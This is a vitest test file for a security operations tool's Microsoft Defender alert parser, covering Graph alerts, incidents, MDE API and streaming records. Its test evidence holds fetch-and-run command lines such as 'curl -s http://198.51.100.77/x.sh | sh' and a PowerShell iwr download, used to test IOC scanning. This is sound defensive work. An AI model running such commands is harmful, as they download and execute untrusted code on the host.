import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Alert, Entity } from '@soc/contracts';
import { defenderParser } from '../src/sources/defender/index.ts';
import { normalize } from '../src/sources/normalize.ts';
import type { FieldError } from '../src/sources/types.ts';

const ctx = { tenantId: 'contoso', senderName: 'test-sender', receivedAt: new Date('2026-11-23T10:00:00Z') };

function load(name: string): unknown {
  return JSON.parse(
    readFileSync(new URL(`../../../test/fixtures/alerts/defender/${name}`, import.meta.url), 'utf8'),
  ) as unknown;
}

function accept(body: unknown): { alerts: Alert[]; rawPointers: string[]; freeText: string[][] } {
  const outcome = normalize(defenderParser, body, ctx);
  if (!outcome.ok) throw new Error(`refused: ${JSON.stringify(outcome.errors)}`);
  return {
    alerts: outcome.alerts,
    rawPointers: outcome.drafts.map((d) => d.rawPointer),
    freeText: outcome.drafts.map((d) => d.freeText ?? []),
  };
}

function refuse(body: unknown): FieldError[] {
  const outcome = normalize(defenderParser, body, ctx);
  if (outcome.ok) throw new Error(`accepted: ${JSON.stringify(outcome.alerts.map((a) => a.source.vendorAlertId))}`);
  return outcome.errors;
}

/** The entity of an alert with this id, from the product (not extracted from free text). */
function entity(alert: Alert, id: string): Entity | undefined {
  return alert.entities.find((e) => e.id === id && e.origin === 'source');
}

describe('defender parser: Microsoft Graph alerts_v2', () => {
  const [alert] = accept(load('graph_alert_v2_get_example.json')).alerts;

  it('maps the documented alert: id, link, severity, status, times, rule, ATT&CK, verdict and tags', () => {
    expect(alert).toMatchObject({
      source: {
        name: 'defender',
        product: 'Microsoft Defender for Endpoint',
        vendor: 'Microsoft',
        vendorAlertId: 'da637578995287051192_756343937',
        url: 'https://security.microsoft.com/alerts/da637578995287051192_756343937?tid=b3c1b5fc-828c-45fa-a1e1-10d74f6d6e9c',
      },
      title: 'Suspicious execution of hidden file',
      severity: 'low',
      status: 'new',
      detectedAt: '2021-04-27T12:19:27.721Z',
      firstSeenAt: '2021-04-26T07:45:50.116Z',
      lastSeenAt: '2021-05-02T07:56:58.222Z',
      rule: { id: 'e0da400f-affd-43ef-b1d5-afc2eb6f2756' },
    });
    expect(alert!.attack).toEqual([{ tactic: 'Defense Evasion' }, { techniqueId: 'T1564.001' }]);
    expect(alert!.labels).toEqual(
      expect.arrayContaining([
        'incident:28282',
        'category:DefenseEvasion',
        'detection-source:antivirus',
        'system-tag:Defender Experts',
      ]),
    );
    // "unknown" classification and determination say nothing, so they are no labels.
    expect(alert!.labels.some((l) => l.startsWith('classification:') || l.startsWith('determination:'))).toBe(false);
  });

  it('maps the device evidence to the compromised host with its MDE device id, OS, interfaces and VM', () => {
    expect(entity(alert!, 'host:tempdns')).toMatchObject({
      type: 'host',
      hostname: 'tempDns',
      os: 'Windows10',
      deviceId: '73e7e2de709dff64ef64b1d0c30e67fab63279db',
      role: 'target',
    });
    expect(entity(alert!, 'ip:1.1.1.1')).toMatchObject({ type: 'ip', isInternal: false, role: 'related' });
    expect(
      entity(
        alert!,
        'cloud-resource:/subscriptions/8700d3a3-3bb7-4fbe-a090-488a1ad04161/resourceGroups/WdatpApi-EUS-STG/providers/Microsoft.Compute/virtualMachines/NirLaviTests',
      ),
    ).toMatchObject({ provider: 'azure', resourceType: 'Microsoft.Compute/virtualMachines' });
  });

  it('maps the file, process, parent, account and registry evidence with their typed fields', () => {
    expect(entity(alert!, 'file:C:\\Program Files\\temp\\MsSense.exe')).toMatchObject({
      type: 'file',
      name: 'MsSense.exe',
      path: 'C:\\Program Files\\temp\\MsSense.exe',
      hashes: [
        { algorithm: 'sha256', value: '8963a19fb992ad9a76576c5638fd68292cffb9aaac29eb8285f9abf6196a7dec' },
        { algorithm: 'sha1', value: '5f1e8acedc065031aad553b710838eb366cfee9a' },
      ],
    });
    expect(entity(alert!, 'hash:5f1e8acedc065031aad553b710838eb366cfee9a')).toMatchObject({ algorithm: 'sha1' });
    expect(entity(alert!, 'hash:8963a19fb992ad9a76576c5638fd68292cffb9aaac29eb8285f9abf6196a7dec')).toMatchObject({
      algorithm: 'sha256',
    });
    expect(entity(alert!, 'process:C:\\Program Files\\temp\\MsSense.exe')).toMatchObject({
      name: 'MsSense.exe',
      commandLine: '"MsSense.exe"',
      pid: 4780,
      parentName: 'services.exe',
    });
    expect(entity(alert!, 'process:C:\\Windows\\System32\\services.exe')).toMatchObject({ pid: 668, role: 'related' });
    expect(entity(alert!, 'user:nt authority\\system')).toMatchObject({
      name: 'SYSTEM',
      domain: 'NT AUTHORITY',
      sid: 'S-1-5-18',
    });
    expect(
      entity(alert!, 'registry:HKEY_LOCAL_MACHINE\\SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER'),
    ).toMatchObject({
      key: 'HKEY_LOCAL_MACHINE\\SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER',
    });
  });

  it('points the single-object body at its root', () => {
    expect(accept(load('graph_alert_v2_get_example.json')).rawPointers).toEqual(['']);
  });

  it('reads the documented list response {"value":[…]} and a bare array of its alerts alike', () => {
    const list = load('graph_list_alerts_v2_example.json') as { value: unknown[] };
    const fromList = accept(list);
    expect(fromList.alerts.map((a) => a.source.vendorAlertId)).toEqual(['da637551227677560813_-961444813']);
    expect(fromList.rawPointers).toEqual(['/value/0']);
    const fromArray = accept(list.value);
    expect(fromArray.rawPointers).toEqual(['/0']);
    expect(fromArray.alerts[0]!.entities).toEqual(fromList.alerts[0]!.entities);
    expect(entity(fromList.alerts[0]!, 'host:tempdns')).toMatchObject({ role: 'target' });
  });
});

describe('defender parser: Graph evidence types', () => {
  const { alerts, rawPointers, freeText } = accept(load('graph_alerts_v2_evidence_types_constructed.json'));
  const [email, cloud] = alerts;

  it('reads a Graph list response {"value":[…]} as one alert per item, pointing into value', () => {
    expect(alerts.map((a) => a.source.vendorAlertId)).toEqual([
      'fa9a2c5f3b-1d4e-4b8f-9a61-2d5c8b0f3e17',
      'dc2c6b3e1f-7a8b-4c9d-0e1f-2a3b4c5d6e7f',
    ]);
    expect(rawPointers).toEqual(['/value/0', '/value/1']);
    expect(email).toMatchObject({
      status: 'in_progress',
      severity: 'high',
      source: { product: 'Microsoft Defender for Office 365' },
    });
    expect(email!.labels).toEqual(
      expect.arrayContaining([
        'classification:truePositive',
        'determination:phishing',
        'verdict:malicious',
        'remediation:remediated',
        'threat:Phish',
      ]),
    );
  });

  it('maps message, mailbox, user, IP and URL evidence with the roles Defender gave them', () => {
    expect(entity(email!, 'mailbox:billing@fabrikam.example')).toMatchObject({
      role: 'actor',
      displayName: 'Fabrikam Billing',
    });
    expect(entity(email!, 'mailbox:alice@contoso.com')).toMatchObject({ role: 'target', displayName: 'Alice' });
    expect(entity(email!, 'ip:203.0.113.66')).toMatchObject({ role: 'actor', isInternal: false });
    expect(entity(email!, 'url:https://fabrikam.example/login/4471')).toMatchObject({ role: 'actor' });
    expect(entity(email!, 'user:alice@contoso.com')).toMatchObject({
      role: 'target',
      name: 'alice',
      domain: 'CONTOSO',
      upn: 'alice@contoso.com',
      sid: 'S-1-5-21-1004336348-1177238915-682003330-1105',
      objectId: 'e86c4ee0-ff58-45df-9722-7e54972c87ce',
    });
    expect(freeText[0]).toContain('Action required: unpaid invoice 4471');
  });

  it('maps registry value, DNS, network connection, logon session, hash and application evidence', () => {
    expect(
      entity(email!, 'registry:HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\InvoiceViewer'),
    ).toMatchObject({
      key: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      valueName: 'InvoiceViewer',
      data: 'C:\\Users\\alice\\AppData\\Roaming\\iv.exe',
      role: 'target',
    });
    expect(entity(email!, 'domain:fabrikam.example')).toBeDefined();
    expect(entity(email!, 'ip:10.1.2.3')).toMatchObject({ role: 'actor', isInternal: true });
    expect(entity(email!, 'ip:198.51.100.10')).toMatchObject({ role: 'target' });
    expect(entity(email!, 'ip:10.0.0.53')).toMatchObject({ role: 'related' });
    expect(entity(email!, 'host:ws-fin-042')).toMatchObject({
      fqdn: 'ws-fin-042.corp.contoso.com',
      deviceId: '73e7e2de709dff64ef64b1d0c30e67fab63279db',
    });
    expect(entity(email!, 'hash:44d88612fea8a8f36de82e1278abb02f')).toMatchObject({ algorithm: 'md5' });
    expect(entity(email!, 'cloud-resource:Microsoft Exchange Online')).toMatchObject({
      resourceType: 'cloudApplication',
      role: 'related',
    });
    expect(entity(email!, 'cloud-resource:0d6a4f5e-8a3b-4c2d-9e0f-4a5b6f1c4b2e')).toMatchObject({
      resourceType: 'oauthApplication',
    });
  });

  it('scans the command line of a process evidence without an image, and names a key once when it holds its hive', () => {
    const graphAlert = load('graph_alert_v2_get_example.json') as Record<string, unknown>;
    const { alerts, freeText } = accept({
      ...graphAlert,
      evidence: [
        {
          '@odata.type': '#microsoft.graph.security.processEvidence',
          processCommandLine: 'powershell -c iwr http://203.0.113.9/a.ps1',
        },
        {
          '@odata.type': '#microsoft.graph.security.registryKeyEvidence',
          registryHive: 'HKEY_LOCAL_MACHINE',
          registryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Contoso',
        },
      ],
    });
    expect(freeText[0]).toEqual(['powershell -c iwr http://203.0.113.9/a.ps1']);
    expect(alerts[0]!.entities.filter((e) => e.origin === 'source').map((e) => e.id)).toEqual([
      'registry:HKEY_LOCAL_MACHINE\\SOFTWARE\\Contoso',
    ]);
  });

  it('accepts evidence without a common entity type (security group, mail cluster) and types it does not know', () => {
    const values = email!.entities.map((e) => e.value);
    expect(values).not.toContain('Finance');
    expect(values.some((v) => v.includes('kept in the raw body only'))).toBe(false);
  });

  it('maps Kubernetes, container, cloud, blob, GitHub and IoT evidence', () => {
    expect(entity(cloud!, 'cloud-resource:aks-prod-weu/prod/pods/payments-7d9f')).toMatchObject({
      resourceType: 'kubernetesPod',
      role: 'target',
    });
    expect(entity(cloud!, 'cloud-resource:aks-prod-weu')).toMatchObject({
      provider: 'azure',
      resourceType: 'kubernetesCluster',
    });
    expect(entity(cloud!, 'cloud-resource:containerd://4f5e8a3b9c2d')).toMatchObject({ resourceType: 'container' });
    expect(entity(cloud!, 'cloud-resource:contoso.azurecr.io')).toMatchObject({ resourceType: 'containerRegistry' });
    expect(entity(cloud!, 'ip:10.244.1.17')).toBeDefined();
    expect(entity(cloud!, 'ip:203.0.113.80')).toBeDefined();
    expect(entity(cloud!, 'cloud-resource:arn:aws:s3:::contoso-backups')).toMatchObject({
      provider: 'aws',
      resourceType: 'S3 bucket',
    });
    expect(
      entity(
        cloud!,
        'cloud-resource://compute.googleapis.com/projects/contoso-prod/zones/europe-west1-b/instances/vm-1',
      ),
    ).toMatchObject({ provider: 'gcp' });
    expect(entity(cloud!, 'hash:9cedee4eca1b34434ccdd654da4faf4c7ca7a723eaab248e4ff9717db26a1f55')).toMatchObject({
      algorithm: 'sha256',
    });
    expect(entity(cloud!, 'cloud-resource:https://github.com/contoso/payments')).toMatchObject({
      provider: 'github',
      resourceType: 'repository',
    });
    expect(entity(cloud!, 'host:plc-line-3')).toMatchObject({ deviceId: 'iot-7781', os: 'VxWorks' });
    expect(entity(cloud!, 'ip:10.50.4.21')).toBeDefined();
    expect(cloud!.attack).toEqual([{ tactic: 'Privilege Escalation' }, { techniqueId: 'T1611' }]);
    // The container's command is scanned for IOCs (it downloads from 198.51.100.77).
    expect(freeText[1]).toContain('/bin/sh -c curl -s http://198.51.100.77/x.sh | sh');
  });
});

describe('defender parser: Graph incidents', () => {
  it('maps an incident without expanded alerts to one alert named by the incident id', () => {
    const { alerts } = accept(load('graph_incident_get_example.json'));
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({
      source: {
        vendorAlertId: '2972395',
        product: 'Microsoft Defender XDR',
        url: 'https://security.microsoft.com/incidents/2972395?tid=12f988bf-16f1-11af-11ab-1d7cd011db47',
      },
      title:
        'Multi-stage incident involving Initial access & Command and control on multiple endpoints reported by multiple sources',
      severity: 'medium',
      status: 'new',
      detectedAt: '2021-08-13T08:43:35.553Z',
      entities: [],
    });
    expect(alerts[0]!.description).toContain('Raspberry Robin');
    expect(alerts[0]!.labels).toEqual(
      expect.arrayContaining([
        'classification:truePositive',
        'determination:multiStagedAttack',
        'tag:Demo',
        'system-tag:Defender Experts',
      ]),
    );
  });

  it('turns an incident with expanded alerts into one alert carrying its alerts’ evidence, techniques and activity window', () => {
    const { alerts, rawPointers } = accept(load('graph_list_incidents_expand_alerts_example.json'));
    expect(alerts).toHaveLength(1);
    expect(rawPointers).toEqual(['/value/0']);
    const [incident] = alerts;
    expect(incident).toMatchObject({
      source: { vendorAlertId: '2972395' },
      status: 'new',
      firstSeenAt: '2021-04-26T07:45:50.116Z',
      lastSeenAt: '2021-05-02T07:56:58.222Z',
    });
    expect(incident!.attack).toEqual([{ tactic: 'Defense Evasion' }, { techniqueId: 'T1564.001' }]);
    expect(incident!.labels).toEqual(expect.arrayContaining(['tag:Demo', 'alert:da637551227677560813_-961444813']));
    expect(entity(incident!, 'host:tempdns')).toMatchObject({
      role: 'target',
      deviceId: '73e7e2de709dff64ef64b1d0c30e67fab63279db',
    });
    expect(entity(incident!, 'process:C:\\Program Files\\temp\\MsSense.exe')).toMatchObject({
      commandLine: '"MsSense.exe"',
    });
    expect(entity(incident!, 'hash:8963a19fb992ad9a76576c5638fd68292cffb9aaac29eb8285f9abf6196a7dec')).toBeDefined();
  });

  it('maps the incident statuses Graph documents', () => {
    const incident = load('graph_incident_get_example.json') as Record<string, unknown>;
    const statusOf = (status: string) => accept({ ...incident, status }).alerts[0]!.status;
    expect(
      ['active', 'inProgress', 'awaitingAction', 'resolved', 'redirected', 'unknownFutureValue'].map(statusOf),
    ).toEqual(['new', 'in_progress', 'in_progress', 'resolved', 'suppressed', 'unknown']);
  });
});

describe('defender parser: Defender for Endpoint /api/alerts', () => {
  const [alert] = accept(load('mde_api_alert_example.json')).alerts;

  it('maps the documented alert', () => {
    expect(alert).toMatchObject({
      source: { vendorAlertId: 'da637472900382838869_1364969609', product: 'Microsoft Defender for Endpoint' },
      title: 'Low-reputation arbitrary code executed by signed executable',
      severity: 'low',
      status: 'new',
      detectedAt: '2021-01-26T20:33:57.722Z',
      firstSeenAt: '2021-01-26T20:31:32.956Z',
      lastSeenAt: '2021-01-26T20:31:33.057Z',
      rule: { id: '17e10bbc-3a68-474a-8aad-faef14d43952' },
    });
    expect(alert!.source.url).toBeUndefined();
    expect(alert!.attack).toEqual([
      { tactic: 'Execution' },
      { techniqueId: 'T1064' },
      { techniqueId: 'T1085' },
      { techniqueId: 'T1220' },
    ]);
    expect(alert!.labels).toEqual(
      expect.arrayContaining([
        'incident:1126093',
        'detection-source:WindowsDefenderAtp',
        'device-group:A',
        'investigation:queued',
        'category:Execution',
      ]),
    );
  });

  it('maps the machine, the related user and the User, Process and File evidence', () => {
    expect(entity(alert!, 'host:temp123')).toMatchObject({
      fqdn: 'temp123.middleeast.corp.microsoft.com',
      deviceId: '111e6dd8c833c8a052ea231ec1b19adaf497b625',
    });
    expect(entity(alert!, 'user:domain\\temp123')).toMatchObject({ name: 'temp123', domain: 'DOMAIN' });
    expect(entity(alert!, 'user:temp123@microsoft.com')).toMatchObject({
      sid: 'S-1-5-21-11111607-1111760036-109187956-75141',
      objectId: '11118379-2a59-1111-ac3c-a51eb4a3c627',
    });
    expect(entity(alert!, 'process:C:\\Windows\\SysWOW64\\rundll32.exe')).toMatchObject({
      commandLine: 'rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe',
      pid: 3276,
      parentName: 'rundll32.exe',
    });
    expect(entity(alert!, 'process:C:\\Windows\\System32\\rundll32.exe')).toMatchObject({ pid: 8420, role: 'related' });
    expect(entity(alert!, 'file:c:\\temp\\suspicious.dll')).toMatchObject({ name: 'suspicious.dll' });
    expect(entity(alert!, 'hash:dc0ade0c95d6db98882bc8fa6707e64353cd6f7767ff48d6a81a6c2aef21c608')).toMatchObject({
      algorithm: 'sha256',
    });
    expect(entity(alert!, 'hash:ff836cfb1af40252bd2a2ea843032e99a5b262ed')).toMatchObject({ algorithm: 'sha1' });
  });
});

describe('defender parser: Defender for Endpoint list response', () => {
  it('reads {"value":[…]} of /api/alerts; a category that is no ATT&CK tactic is a label only', () => {
    const { alerts, rawPointers } = accept(load('mde_api_list_alerts_example.json'));
    expect(rawPointers).toEqual(['/value/0']);
    const [alert] = alerts;
    expect(alert).toMatchObject({
      source: { vendorAlertId: 'da637308392288907382_-880718168' },
      title: "Suspicious 'Meterpreter' behavior was detected",
      detectedAt: '2020-07-20T10:53:48.765Z',
    });
    expect(alert!.attack).toEqual([{ techniqueId: 'T1064' }, { techniqueId: 'T1085' }, { techniqueId: 'T1220' }]);
    expect(alert!.labels).toEqual(
      expect.arrayContaining([
        'classification:truePositive',
        'threat-family:Meterpreter',
        'category:SuspiciousActivity',
        'detection-source:WindowsDefenderAv',
        'device-group:MiddleEast',
      ]),
    );
    expect(entity(alert!, 'host:temp123')).toMatchObject({ deviceId: '12ee6dd8c833c8a052ea231ec1b19adaf497b625' });
  });
});

describe('defender parser: streaming API records on Event Hubs', () => {
  it('makes one alert of the AlertInfo row with the entities of its AlertEvidence rows', () => {
    const { alerts, rawPointers } = accept(load('streaming_eventhubs_alertinfo_alertevidence.json'));
    expect(alerts).toHaveLength(1);
    expect(rawPointers).toEqual(['/records/0']);
    const [alert] = alerts;
    expect(alert).toMatchObject({
      source: { vendorAlertId: 'da637472900382838869_1364969609', product: 'Microsoft Defender for Endpoint' },
      title: 'Low-reputation arbitrary code executed by signed executable',
      severity: 'low',
      detectedAt: '2021-01-26T20:33:57.722Z',
    });
    expect(alert!.attack).toEqual([
      { tactic: 'Execution' },
      { techniqueId: 'T1064', techniqueName: 'Scripting' },
      { techniqueId: 'T1085', techniqueName: 'Rundll32' },
      { techniqueId: 'T1220', techniqueName: 'XSL Script Processing' },
    ]);
    expect(alert!.labels).toEqual(expect.arrayContaining(['detection-source:EDR', 'device-group:A']));
    expect(entity(alert!, 'host:temp123')).toMatchObject({
      role: 'target',
      fqdn: 'temp123.middleeast.corp.microsoft.com',
      deviceId: '111e6dd8c833c8a052ea231ec1b19adaf497b625',
    });
    expect(entity(alert!, 'user:temp123@microsoft.com')).toMatchObject({
      role: 'target',
      sid: 'S-1-5-21-11111607-1111760036-109187956-75141',
    });
    expect(entity(alert!, 'process:C:\\Windows\\SysWOW64\\rundll32.exe')).toMatchObject({
      role: 'related',
      commandLine: 'rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe',
    });
    expect(entity(alert!, 'file:c:\\temp\\suspicious.dll')).toMatchObject({ role: 'target' });
    expect(entity(alert!, 'hash:8563f95b2f8a284fc99da44500cd51a77c1ff36c')).toMatchObject({ algorithm: 'sha1' });
    expect(entity(alert!, 'ip:198.51.100.23')).toMatchObject({ role: 'related' });
    expect(entity(alert!, 'url:http://198.51.100.23/payload.xsl')).toBeDefined();
    // The evidence row of an alert not in the batch is dropped, the DeviceInfo row ignored.
    expect(alert!.entities.some((e) => e.value === '192.0.2.99')).toBe(false);
  });

  it('keeps the first of a re-delivered AlertInfo row and reads arrays of Event Hubs batches', () => {
    const batch = load('streaming_eventhubs_alertinfo_alertevidence.json') as { records: unknown[] };
    const { alerts, rawPointers } = accept([
      { records: [batch.records[0]] },
      { records: [batch.records[0], ...batch.records.slice(1)] },
    ]);
    expect(alerts).toHaveLength(1);
    expect(rawPointers).toEqual(['/0/records/0']);
    expect(entity(alerts[0]!, 'host:temp123')).toBeDefined();
  });

  it('refuses a batch of evidence rows without their AlertInfo, saying what to stream', () => {
    const batch = load('streaming_eventhubs_alertinfo_alertevidence.json') as { records: unknown[] };
    const errors = refuse({ records: batch.records.slice(1) });
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ index: 0, path: 'records' });
    expect(errors[0]!.message).toContain('AlertInfo');
    expect(errors[0]!.message).toContain('7 AlertEvidence');
  });

  it('reports a streaming record without properties or with an unknown severity', () => {
    const errors = refuse({
      records: [
        { time: '2021-01-26T20:34:12Z', category: 'AdvancedHunting-AlertInfo' },
        { category: 'AdvancedHunting-AlertInfo', properties: { AlertId: 'a1', Title: 't', Severity: 'Urgent' } },
      ],
    });
    expect(errors).toEqual([
      expect.objectContaining({ index: 0, path: 'properties' }),
      expect.objectContaining({ index: 1, path: 'properties.Severity' }),
    ]);
  });
});

describe('defender parser: bad input', () => {
  const graphAlert = load('graph_alert_v2_get_example.json') as Record<string, unknown>;

  it('answers a body of the wrong shape with one (root) error naming the accepted shapes', () => {
    for (const body of ['an alert', 42, null, true]) {
      const errors = refuse(body);
      expect(errors).toHaveLength(1);
      expect(errors[0]).toMatchObject({ index: 0, path: '(root)' });
      expect(errors[0]!.message).toContain('alerts_v2');
    }
    expect(refuse({ hello: 'world' })[0]).toMatchObject({ index: 0, path: '(root)' });
    expect(refuse({ value: [] })[0]!.message).toContain('no record');
  });

  it('refuses only the bad records of a batch, with their index and field', () => {
    const errors = refuse([
      graphAlert,
      { ...graphAlert, id: undefined, severity: 'urgent', createdDateTime: 'yesterday', evidence: 'none' },
      7,
    ]);
    expect(errors.every((e) => e.index === 1 || e.index === 2)).toBe(true);
    expect(errors.filter((e) => e.index === 1).map((e) => e.path)).toEqual([
      'id',
      'severity',
      'createdDateTime',
      'evidence',
    ]);
    expect(errors.find((e) => e.index === 2)).toMatchObject({ path: '(root)' });
  });

  it('reports evidence items and expanded alerts that are not objects', () => {
    expect(refuse({ ...graphAlert, evidence: [null] })[0]).toMatchObject({ path: 'evidence.0' });
    const incident = load('graph_incident_get_example.json') as Record<string, unknown>;
    expect(refuse({ ...incident, alerts: ['x'] })[0]).toMatchObject({ path: 'alerts.0' });
    expect(refuse({ ...incident, alerts: [{ ...graphAlert, firstActivityDateTime: 'soon' }] })[0]).toMatchObject({
      path: 'alerts.0.firstActivityDateTime',
    });
  });

  it('points senders of the deprecated Graph security alerts API at alerts_v2', () => {
    const [error] = refuse({ '@odata.type': '#microsoft.graph.alert', id: 'x', severity: 'high' });
    expect(error).toMatchObject({ path: '@odata.type' });
    expect(error!.message).toContain('/security/alerts_v2');
  });

  it('keeps an alert whose severity Microsoft left unknown, as medium with the source value as a label', () => {
    const [alert] = accept({ ...graphAlert, severity: 'unknownFutureValue' }).alerts;
    expect(alert).toMatchObject({ severity: 'medium' });
    expect(alert!.labels).toContain('source-severity:unknownFutureValue');
  });

  it('never throws, whatever JSON it is given', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (body) => {
        const result = defenderParser.parse(body, { receivedAt: ctx.receivedAt });
        expect(typeof result.ok).toBe('boolean');
      }),
      { numRuns: 500 },
    );
    const shaped = fc.record({
      '@odata.type': fc.constantFrom('#microsoft.graph.security.alert', '#microsoft.graph.security.incident'),
      id: fc.string(),
      severity: fc.string(),
      evidence: fc.array(fc.jsonValue()),
      alerts: fc.array(fc.jsonValue()),
    });
    fc.assert(
      fc.property(shaped, (body) => typeof defenderParser.parse(body, { receivedAt: ctx.receivedAt }).ok === 'boolean'),
      { numRuns: 300 },
    );
  });
});
